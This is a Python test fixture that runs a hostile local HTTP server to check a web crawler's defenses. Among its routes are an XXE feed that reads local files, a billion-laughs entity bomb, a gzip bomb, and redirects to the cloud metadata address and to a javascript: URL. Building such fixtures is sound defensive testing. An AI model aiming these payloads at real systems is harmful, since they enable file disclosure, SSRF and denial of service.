"""A hostile HTTP server on 127.0.0.1: every way a real server can hurt a crawler, one route each.

Responses are written by hand (no Content-Length where a real attacker would leave it out,
bodies streamed forever, bytes dripped one a second), so the crawler meets the bytes it would meet
on the open web. Each server has one robots.txt behaviour, so the robots cases each get their own
origin.
"""

from __future__ import annotations

import contextlib
import socket
import threading
import time
import zlib
from collections import Counter
from collections.abc import Callable, Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from types import TracebackType
from typing import Self
from urllib.parse import urlsplit

from tests.sites import article_html

# Long enough to pass a lowered length gate (tests run with a 200-character minimum).
KOREAN = "서울시는 월요일 한강 다리 보수 공사를 내년 봄까지 마치겠다고 밝혔다. " * 12
JAPANESE = "東京都は月曜日、古い橋の修復工事を来年の春までに終えると発表した。" * 14
RUSSIAN = "Городской совет в понедельник сообщил, что старый мост отремонтируют к весне. " * 8

Body = bytes | Iterator[bytes]


def _page(lang: str, title: str, text: str, meta: str = "") -> str:
    paragraphs = "".join(f"<p>{text}</p>" for _ in range(3))
    return (f"<!doctype html><html lang='{lang}'><head>{meta}<title>{title}</title></head>"
            f"<body><article><h1>{title}</h1>{paragraphs}</article></body></html>")


def charset_pages() -> dict[str, tuple[str, bytes, str]]:
    """{path: (Content-Type, body, phrase the stored text must hold)}."""
    ko = _page("ko", "한강 다리", KOREAN)
    ja = _page("ja", "古い橋", JAPANESE, "<meta charset='shift_jis'>")
    ru = _page("ru", "Старый мост", RUSSIAN)
    return {
        "/charset/euc-kr-header": ("text/html; charset=EUC-KR", ko.encode("euc-kr"), "한강 다리"),
        "/charset/shift-jis-meta": ("text/html", ja.encode("shift_jis"), "古い橋の修復工事"),
        "/charset/cp1251-header": ("text/html; charset=windows-1251", ru.encode("cp1251"),
                                   "старый мост"),
        "/charset/cp1251-undeclared": ("text/html", ru.encode("cp1251"), "старый мост"),
        "/charset/euc-kr-undeclared": ("text/html", ko.encode("euc-kr"), "한강 다리"),
        "/charset/shift-jis-undeclared": ("text/html", _page("ja", "古い橋", JAPANESE)
                                          .encode("shift_jis"), "古い橋の修復工事"),
        "/charset/wrong-header": ("text/html; charset=utf-8", ru.encode("cp1251"),
                                  "старый мост"),
        # Codec names that are not text encodings: the charset is detected instead.
        "/charset/base64-header": ("text/html; charset=base64", ru.encode("utf-8"),
                                   "старый мост"),
        "/charset/zlib-header-refresh": (
            "text/html; charset=zlib",
            ru.replace("<title>", "<meta name='keywords' content='refresh'><title>")
            .encode("utf-8"), "старый мост"),
    }


def gzip_bomb(decompressed: int) -> bytes:
    """`decompressed` zero bytes, gzipped: about a thousandth of that on the wire."""
    packer = zlib.compressobj(9, zlib.DEFLATED, 31)
    chunk = b"\0" * (1 << 20)
    parts = [packer.compress(chunk) for _ in range(decompressed // len(chunk))]
    return b"".join(parts) + packer.flush()


def xxe_feed(secret_path: str, probe_url: str) -> bytes:
    return (f'<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY leak SYSTEM "file://{secret_path}">'
            f'<!ENTITY probe SYSTEM "{probe_url}">]><rss version="2.0"><channel>'
            "<title>&leak;</title><item><title>&leak;&probe;</title>"
            "<link>{BASE}/xxe/&leak;</link><description>&leak;</description></item>"
            "<item><title>fine</title><link>{BASE}/html/after-xxe</link></item>"
            "</channel></rss>").encode()


def billion_laughs_feed() -> bytes:
    entities = '<!ENTITY lol0 "lol">' + "".join(
        f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10}">' for i in range(1, 10))
    return (f'<?xml version="1.0"?><!DOCTYPE rss [{entities}]><rss version="2.0"><channel>'
            "<title>&lol9;</title><item><title>&lol9;</title><link>{BASE}/html/laughs</link>"
            "</item></channel></rss>").encode()


def million_entry_feed() -> Iterator[bytes]:
    """An RSS feed of a million items, generated as it is sent (about 70 MB)."""
    yield b'<?xml version="1.0"?><rss version="2.0"><channel><title>huge</title>'
    for start in range(0, 1_000_000, 10_000):
        yield "".join(f"<item><link>{{BASE}}/html/m{n}</link></item>"
                      for n in range(start, start + 10_000)).encode()
    yield b"</channel></rss>"


def million_entry_sitemap() -> Iterator[bytes]:
    """A sitemap of a million URLs, generated as it is sent."""
    yield b'<?xml version="1.0"?><urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9">'
    for start in range(0, 1_000_000, 10_000):
        yield "".join(f"<url><loc>http://127.0.0.1/p/{n}</loc></url>"
                      for n in range(start, start + 10_000)).encode()
    yield b"</urlset>"


class HostileServer:
    """Serve the hostile routes on 127.0.0.1 (an ephemeral port) in a thread.

    `robots`: `None` (no robots.txt), `huge`, `malformed`, `slow`, or `crawl-delay` (asks
    for an hour between requests). `requests` lists (time, path) of every request served.
    """

    class HTTPServer(ThreadingHTTPServer):
        daemon_threads = True
        hostile: HostileServer

    def __init__(self, robots: str | None = None, secret_path: str = "/nonexistent") -> None:
        self.robots = robots
        self.secret_path = secret_path
        self.hits: Counter[str] = Counter()
        self.requests: list[tuple[float, str]] = []
        self.lock = threading.Lock()
        self.httpd = self.HTTPServer(("127.0.0.1", 0), _Handler)
        self.httpd.hostile = self
        self.thread = threading.Thread(target=self.httpd.serve_forever, daemon=True)
        self._bomb = gzip_bomb(64 << 20)

    @property
    def base_url(self) -> str:
        return f"http://127.0.0.1:{self.httpd.server_address[1]}"

    def url(self, path: str) -> str:
        return self.base_url + path

    def __enter__(self) -> Self:
        self.thread.start()
        return self

    def __exit__(self, *exc: type[BaseException] | BaseException | TracebackType | None) -> None:
        self.httpd.shutdown()
        self.httpd.server_close()

    def reply(self, path: str) -> tuple[int, dict[str, str], Body]:
        """Status, headers and body (bytes, or chunks streamed until the client leaves)."""
        with self.lock:
            self.requests.append((time.monotonic(), path))
            self.hits[path] += 1
            hits = self.hits[path]
        for prefix, route in self._routes().items():
            if path == prefix or (prefix.endswith("/") and path.startswith(prefix)):
                return route(path, hits)
        return 404, {"Content-Type": "text/html"}, b"<html><body>not here</body></html>"

    def _routes(self) -> dict[str, Callable[[str, int], tuple[int, dict[str, str], Body]]]:
        html = {"Content-Type": "text/html; charset=utf-8"}
        charsets = charset_pages()
        return {
            "/robots.txt": lambda path, hits: self._robots(),
            "/html/": lambda path, hits: (200, html, article_html(f"Story {path}").encode()),
            "/private/": lambda path, hits: (200, html, article_html("Private").encode()),
            "/file.pdf": lambda path, hits: (200, {"Content-Type": "application/pdf"},
                                             b"%PDF-1.4\n" + b"0" * 5000),
            "/image.png": lambda path, hits: (200, {"Content-Type": "image/png"},
                                              b"\x89PNG\r\n\x1a\n" + b"\0" * 5000),
            "/data.json": lambda path, hits: (200, {"Content-Type": "application/json"},
                                              b'{"title": "not a page"}'),
            "/untyped-pdf": lambda path, hits: (200, {}, b"%PDF-1.4\n" + b"0" * 5000),
            # No Content-Type: sniffed as HTML past a byte-order mark, a comment or a prolog.
            "/untyped/bom": lambda path, hits: (200, {}, b"\xef\xbb\xbf" + _long_head("Marked")),
            "/untyped/comment": lambda path, hits: (
                200, {}, b"<!-- generated -->\n" + _long_head("Commented")),
            "/untyped/prolog": lambda path, hits: (
                200, {}, b"<?xml version='1.0' encoding='utf-8'?>\n" + _long_head("Prolog")),
            "/big-declared": lambda path, hits: (200, {**html, "Content-Length": str(8 << 20)},
                                                 _forever(b"<p>" + b"x" * 8189 + b"</p>")),
            "/big-streamed": lambda path, hits: (200, html,
                                                 _forever(b"<p>" + b"y" * 8189 + b"</p>")),
            "/gzip-bomb": lambda path, hits: (200, {**html, "Content-Encoding": "gzip"},
                                              self._bomb),
            "/loop/a": lambda path, hits: (302, {"Location": "/loop/b"}, b""),
            "/loop/b": lambda path, hits: (302, {"Location": "/loop/a"}, b""),
            "/chain/": self._chain,
            "/slow-drip": lambda path, hits: (200, html, _drip()),
            "/truncated": lambda path, hits: (200, html, article_html("Cut short").encode()
                                              [:-400]),
            "/lying-length": lambda path, hits: (200, {**html, "Content-Length": "900000"},
                                                 article_html("Lies").encode()),
            "/malformed": lambda path, hits: (200, html, _malformed_html()),
            "/mojibake": lambda path, hits: (200, html, _mojibake()),
            "/empty": lambda path, hits: (200, html, b""),
            "/meta-refresh": lambda path, hits: (200, html, (
                b'<html><head><META HTTP-EQUIV="Refresh" CONTENT="0; URL=/html/refreshed">'
                b"</head><body>Moved.</body></html>")),
            "/server-error": lambda path, hits: (500, html, b"<html><body>boom</body></html>"),
            "/rate-limited": lambda path, hits: (429, {**html, "Retry-After": "1"}, b"slow down"),
            "/throttled/": lambda path, hits: (429, {**html, "Retry-After": "8"}, b"slow down"),
            "/rate-limited-once": lambda path, hits: (
                (429, {**html, "Retry-After": "1"}, b"slow down") if hits == 1
                else (200, html, article_html("Patience").encode())),
            "/charset/": lambda path, hits: (200, {"Content-Type": charsets[path][0]},
                                             charsets[path][1]),
            "/to-metadata": lambda path, hits: (
                302, {"Location": "http://169.254.169.254/latest/meta-data/"}, b""),
            "/to-mailto": lambda path, hits: (302, {"Location": "mailto:news@example.org"}, b""),
            "/to-javascript": lambda path, hits: (302, {"Location": "javascript:alert(1)"}, b""),
            "/to-malformed": lambda path, hits: (302, {"Location": "http://[bad/x"}, b""),
            "/to-loopback": lambda path, hits: (302, {"Location": self.url("/html/inner")}, b""),
            "/feeds/xxe.xml": lambda path, hits: (
                200, {"Content-Type": "application/rss+xml"},
                xxe_feed(self.secret_path, self.url("/xxe-probe"))
                .replace(b"{BASE}", self.base_url.encode())),
            "/feeds/laughs.xml": lambda path, hits: (
                200, {"Content-Type": "application/rss+xml"},
                billion_laughs_feed().replace(b"{BASE}", self.base_url.encode())),
            "/feeds/million.xml": lambda path, hits: (
                200, {"Content-Type": "application/rss+xml"},
                (chunk.replace(b"{BASE}", self.base_url.encode())
                 for chunk in million_entry_feed())),
            "/feeds/malformed.xml": lambda path, hits: (
                200, {"Content-Type": "application/rss+xml"},
                b"<?xml version='1.0'?><rss><channel><item><link>" + self.base_url.encode()
                + b"/html/from-broken-feed</link></item><item><link>&nope;<<<"),
            "/feeds/gzip-bomb.xml": lambda path, hits: (
                200, {"Content-Type": "application/rss+xml", "Content-Encoding": "gzip"},
                self._bomb),
            "/sitemaps/bomb.xml.gz": lambda path, hits: (
                200, {"Content-Type": "application/gzip"}, self._bomb),
            "/sitemaps/million.xml": lambda path, hits: (
                200, {"Content-Type": "application/xml"}, million_entry_sitemap()),
        }

    def _robots(self) -> tuple[int, dict[str, str], Body]:
        text = {"Content-Type": "text/plain"}
        if self.robots == "huge":
            return 200, text, _forever(b"User-agent: *\nDisallow: /html/\n" * 256)
        if self.robots == "slow":
            return 200, text, _drip()
        if self.robots == "crawl-delay":
            return 200, text, b"User-agent: *\nCrawl-delay: 3600\nDisallow: /private/\n"
        if self.robots == "malformed":
            return 200, text, (b"\xff\xfe\x00garbage <html>\nUser-agent *\n\x00\x00Disallow\n"
                               b"User-agent: *\nDisallow: /private/\n" + b"\x89\xff" * 500)
        return 404, text, b""

    def _chain(self, path: str, hits: int) -> tuple[int, dict[str, str], Body]:
        hop = int(path.rsplit("/", 1)[1])
        if hop >= 15:
            return 200, {"Content-Type": "text/html"}, article_html("End of chain").encode()
        return 302, {"Location": f"/chain/{hop + 1}"}, b""


def _forever(chunk: bytes) -> Iterator[bytes]:
    while True:
        yield chunk


def _drip() -> Iterator[bytes]:
    """A byte a second, forever: only a total time limit ends it."""
    yield b"<html><body><p>"
    while True:
        time.sleep(1)
        yield b"."


def _malformed_html() -> bytes:
    return (b"<html><head><title>Broken <b>title</title></head><body><div><p>Unclosed "
            + article_html("Broken").encode()[200:] + b"<table><tr><td><p></div></span>"
            b"</article></html></html><script>if (a < b && c > d) {</p>\x00\x01\xff<!-- never "
            b"closed")


def _long_head(title: str) -> bytes:
    """An article whose <head> is as long as real sites make it (its <body> starts late)."""
    styles = "<style>" + "p { margin: 0 0 1em; } " * 100 + "</style>"
    return article_html(title).replace("</head>", styles + "</head>").encode()


def _mojibake() -> bytes:
    text = article_html("Caf\u00e9 cr\u00e8me").encode()
    return text + "<p>Caf\u00e9 na\u00efve</p>".encode("cp1252") + "<p>ソウル</p>".encode()


class _Handler(BaseHTTPRequestHandler):
    server: HostileServer.HTTPServer
    protocol_version = "HTTP/1.0"  # the body ends when the connection closes

    def do_GET(self) -> None:  # noqa: N802 (the standard library's name)
        status, headers, body = self.server.hostile.reply(urlsplit(self.path).path)
        self.send_response(status)
        for name, value in headers.items():
            self.send_header(name, value)
        if isinstance(body, bytes) and "Content-Length" not in headers:
            self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        try:
            for chunk in [body] if isinstance(body, bytes) else body:
                self.wfile.write(chunk)
        except (BrokenPipeError, ConnectionResetError):
            pass  # the crawler gave up on us: what a hostile server hopes for, and fine

    def log_message(self, format: str, *args: object) -> None:  # noqa: A002
        pass


class SilentServer:
    """A site that has stopped answering: it accepts each connection and closes it without a
    word. `connections` counts them."""

    def __init__(self) -> None:
        self.listener = socket.create_server(("127.0.0.1", 0))
        self.connections = 0
        self.thread = threading.Thread(target=self._serve, daemon=True)

    def url(self, path: str) -> str:
        return f"http://127.0.0.1:{self.listener.getsockname()[1]}{path}"

    def __enter__(self) -> Self:
        self.thread.start()
        return self

    def __exit__(self, *exc: type[BaseException] | BaseException | TracebackType | None) -> None:
        self.listener.close()

    def _serve(self) -> None:
        with contextlib.suppress(OSError):  # the listener closed: the test is over
            while True:
                connection, _ = self.listener.accept()
                self.connections += 1
                connection.close()
